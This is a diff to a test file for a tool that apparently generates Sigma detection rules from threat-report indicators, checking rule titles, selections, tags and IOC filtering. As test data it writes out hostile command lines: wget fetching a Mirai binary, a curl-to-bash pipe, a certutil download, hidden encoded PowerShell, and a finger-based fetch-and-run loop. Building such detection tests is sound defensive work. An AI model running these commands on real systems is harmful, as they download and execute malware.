@@ -36,8 +36,9 @@ describe('builtin SigmaAgent templates', () => {
   const drafts = generateBuiltinRules(input);
   const rules = drafts.map((draft) => ({ draft, rule: load(draft.yaml) as Rule }));
 
-  it('writes one rule per telemetry class group with the metadata every rule carries', () => {
+  it('writes one rule per behaviour with the metadata every rule carries', () => {
     expect(drafts.map((draft) => draft.telemetryClass)).toEqual([
+      'process_creation',
       'process_creation',
       'process_creation',
       'registry_set',
@@ -50,6 +51,7 @@ describe('builtin SigmaAgent templates', () => {
       expect(rule.status).toBe('experimental');
       expect(rule.references).toEqual([article.url]);
       expect(rule.description).toContain(article.title);
+      expect(rule.description).toMatch(/^Detects /);
       expect(rule.date).toBe('2026-11-21');
       expect(rule.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
       expect(rule.falsepositives.length).toBeGreaterThan(0);
@@ -57,31 +59,31 @@ describe('builtin SigmaAgent templates', () => {
     }
   });
 
-  it('builds command-line selections from verbatim, distinctive arguments and skips a bare command', () => {
-    const cmd = must(rules[0]).rule;
-    expect(cmd.logsource).toEqual({ category: 'process_creation', product: 'windows' });
-    expect(cmd.detection['condition']).toBe('1 of selection_*');
-    expect(cmd.detection['selection_1']).toEqual({
-      'Image|endswith': '\\powershell.exe',
-      'CommandLine|contains': 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
-    });
-    expect(cmd.detection['selection_2']).toMatchObject({ 'Image|endswith': '\\certutil.exe' });
-    expect(cmd.detection['selection_3']).toBeUndefined();
-    for (const value of must(rules[0]).draft.detectionValues.filter((v) => !v.startsWith('\\'))) {
+  it('selects each program on its behaviour switches and stable arguments, never the run-specific ones', () => {
+    const [powershell, certutil] = rules.map(({ rule }) => rule);
+    expect(must(powershell).title).toBe('PowerShell Encoded Or Base64-Decoded Command');
+    expect(must(powershell).detection['selection']).toEqual({ 'Image|endswith': '\\powershell.exe', 'CommandLine|contains|all': ['-nop', '-w hidden', '-enc'] });
+    expect(must(certutil).title).toBe('Certutil.EXE Download From Remote URL');
+    // The host and the throwaway file name (a.exe) belong to this intrusion; the technique does not.
+    expect(must(certutil).detection['selection']).toEqual({ 'Image|endswith': '\\certutil.exe', 'CommandLine|contains|all': ['-urlcache', 'http://', 'C:\\Users\\Public\\'] });
+    expect(must(certutil).tags).toEqual(['attack.command-and-control', 'attack.t1105']);
+    expect(must(certutil).level).toBe('high');
+    expect(rules.some(({ rule }) => JSON.stringify(rule.detection).includes('whoami'))).toBe(false);
+    for (const value of must(rules[1]).draft.detectionValues.filter((v) => !v.startsWith('\\'))) {
       expect(must(input.cmdlines).some((c) => c.value.includes(value))).toBe(true);
     }
-    expect(cmd.tags).toEqual(['attack.command-and-control', 'attack.execution', 'attack.t1059.001', 'attack.t1105']);
-    expect(cmd.level).toBe('high');
   });
 
   it('maps lineage, registry, service, task and network observables to their classes', () => {
-    const byClass = Object.fromEntries(rules.map(({ draft, rule }) => [draft.telemetryClass + (draft.title.startsWith('Suspicious') ? ':lineage' : ''), rule]));
-    expect(must(byClass['process_creation:lineage']).detection['selection']).toEqual({ 'ParentImage|endswith': '\\WINWORD.EXE', 'Image|endswith': '\\powershell.exe' });
+    const lineage = rules.find(({ rule }) => rule.title === 'Powershell.EXE Started By WINWORD.EXE');
+    expect(must(lineage).rule.detection['selection']).toEqual({ 'ParentImage|endswith': '\\WINWORD.EXE', 'Image|endswith': '\\powershell.exe' });
+    const byClass = Object.fromEntries(rules.map(({ draft, rule }) => [draft.telemetryClass, rule]));
     expect(must(byClass['registry_set']).detection['selection']).toEqual({
       'TargetObject|contains': '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
       'TargetObject|endswith': '\\Updater',
     });
     expect(must(byClass['registry_set']).tags).toEqual(['attack.persistence', 'attack.t1547.001']);
+    expect(must(byClass['registry_set']).title).toBe('Run Key Persistence Via Registry Value Updater');
     expect(must(byClass['service_creation']).detection['selection']).toEqual({
       Provider_Name: 'Service Control Manager',
       EventID: 7045,
@@ -90,16 +92,52 @@ describe('builtin SigmaAgent templates', () => {
     expect(must(byClass['scheduled_task_creation']).detection['selection']).toEqual({ EventID: 4698, 'TaskName|endswith': '\\OneDriveSync' });
     expect(must(byClass['network_connection']).detection['selection']).toEqual({ DestinationIp: ['203.0.113.7'] });
     expect(must(byClass['dns_query']).detection['selection']).toEqual({ QueryName: ['update-cdn.example.net', 'files.example.com'] });
+    expect(must(byClass['dns_query']).title).toBe('DNS Query For Domains Reported In Tracking the Loader campaign');
   });
 
   it('skips Windows-only classes for a Linux article and uses the linux product', () => {
-    const linux = generateBuiltinRules({ ...input, platform: 'linux', cmdlines: [{ ...item, value: 'curl -fsSL http://198.51.100.4/x.sh | bash', executable: 'curl' }] });
+    const linux = generateBuiltinRules({ ...input, platform: 'linux', processPairs: [], cmdlines: [{ ...item, value: 'cd /tmp && wget -q http://198.51.100.4/bins/mirai.x86 -O /tmp/.sysd/dbus-helper', executable: 'cd' }] });
     const classes = linux.map((draft) => draft.telemetryClass);
     expect(classes).not.toContain('registry_set');
     expect(classes).not.toContain('service_creation');
     const cmd = load(must(linux[0]).yaml) as Rule;
     expect(cmd.logsource.product).toBe('linux');
-    expect(cmd.detection['selection']).toMatchObject({ 'Image|endswith': '/curl', 'CommandLine|contains': 'http://198.51.100.4/x.sh' });
+    // The program that ran is wget, not the shell built-in the line starts with.
+    expect(cmd.detection['selection']).toEqual({ 'Image|endswith': '/wget', 'CommandLine|contains|all': ['http://', '/bins/mirai.x86', '/tmp/.sysd/dbus-helper'] });
+    expect(cmd.title).toBe('Wget Download From Remote Host');
+  });
+
+  it('resolves wrappers to the program that ran, keeps one selection per distinct command, and leaves out what cannot stand alone', () => {
+    const wrapped = generateBuiltinRules({
+      article,
+      platform: 'windows',
+      cmdlines: [
+        { ...item, value: 'cmd /c start /b rundll32.exe C:\\ProgramData\\Intel\\update.dll,DllRegisterServer', executable: 'cmd' },
+        { ...item, value: 'rundll32.exe C:\\ProgramData\\Intel\\update.dll,DllRegisterServer', executable: 'rundll32.exe' },
+        { ...item, value: 'for /f "tokens=*" %%a in (\'finger gate@203.0.113.9\') do call %%a', executable: 'for' },
+        { ...item, value: 'killall Terminal 2>/dev/null', executable: 'killall' },
+      ],
+    });
+    const loaded = wrapped.map((draft) => load(draft.yaml) as Rule);
+    expect(loaded.map((rule) => rule.title)).toEqual(['Rundll32.EXE Execution Of DLL From Unusual Location']);
+    expect(loaded[0]?.detection).toEqual({
+      selection: { 'Image|endswith': '\\rundll32.exe', 'CommandLine|contains': 'C:\\ProgramData\\Intel\\update.dll,DllRegisterServer' },
+      condition: 'selection',
+    });
+  });
+
+  it('keeps resolvers, CDNs and code hosts out of IOC rules', () => {
+    const drafts = generateBuiltinRules({
+      article,
+      platform: 'windows',
+      network: [
+        { ...item, value: '8.8.8.8', kind: 'ipv4' },
+        { ...item, value: 'https://raw.githubusercontent.com/x/y/main/a.ps1', kind: 'url' },
+        { ...item, value: 'c2.badhost.example', kind: 'domain' },
+      ],
+    });
+    expect(drafts.map((draft) => draft.telemetryClass)).toEqual(['dns_query']);
+    expect((load(must(drafts[0]).yaml) as Rule).detection['selection']).toEqual({ QueryName: ['c2.badhost.example'] });
   });
 
   it('is deterministic: the same input gives the same ids and YAML', () => {
@@ -111,7 +149,7 @@ describe('builtin SigmaAgent templates', () => {
     const many = Array.from({ length: 7 }, (_, index) => ({ ...item, value: `rundll32.exe C:\\Temp\\mod${index}.dll,Start`, executable: 'rundll32.exe' }));
     const split = generateBuiltinRules({ article, platform: 'windows', cmdlines: many });
     expect(split).toHaveLength(2);
-    expect(must(split[1]).title).toContain('(part 2)');
+    expect(must(split[1]).title).toBe('Rundll32.EXE Execution Of DLL From Unusual Location (2)');
   });
 
   it('picks path, URL and encoded arguments over switches', () => {
